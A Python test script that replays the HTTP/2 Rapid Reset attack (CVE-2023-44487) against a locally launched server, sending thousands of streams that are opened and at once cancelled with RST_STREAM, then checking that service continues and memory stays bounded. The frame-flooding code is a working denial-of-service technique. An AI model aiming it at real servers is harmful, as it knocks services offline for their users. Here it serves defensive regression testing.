#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Calls that are reset as soon as they are sent (CVE-2023-44487), bare and with their request: others are served, and memory is bounded."""

import struct
import sys

from http2 import DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, call_head, frame
from siege import Siege, pour_once
from target import GENERATE, LIST, TEST_CARD, running_server, samples, until, wait_until_ready

SECONDS = 30  # it ends earlier
CALLS = 4_000  # of each side; each holds 23 KB while it waits for its turn, and nothing bounds how many wait
BATCH = 200  # calls that are written at once
CANCEL = struct.pack(">I", 8)


def resets(path, message):
    """Batches of calls: each has its headers, its request unless that is None, and its reset."""
    def blobs(address):
        block = call_head(path, address)
        for first in range(1, 2 * CALLS, 2 * BATCH):
            yield b"".join(reset_call(stream, block, message) for stream in range(first, first + 2 * BATCH, 2))
    return lambda address, deadline: pour_once(address, deadline, blobs) * BATCH


def reset_call(stream, block, message):
    request = b"" if message is None else frame(DATA, END_STREAM, stream, struct.pack(">BI", 0, len(message)) + message)
    return frame(HEADERS, END_HEADERS, stream, block) + request + frame(RST_STREAM, 0, stream, CANCEL)


def main():
    with running_server(config=TEST_CARD) as server:
        wait_until_ready(server)
        for what, attack in (("calls reset before their request", resets(GENERATE, None)),
                             ("calls reset after their request", resets(LIST, b""))):
            Siege(server, what, attack, SECONDS).check("calls", least=CALLS)
            until(lambda: samples(server)["reel_open_streams"] == 0, "all calls are closed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
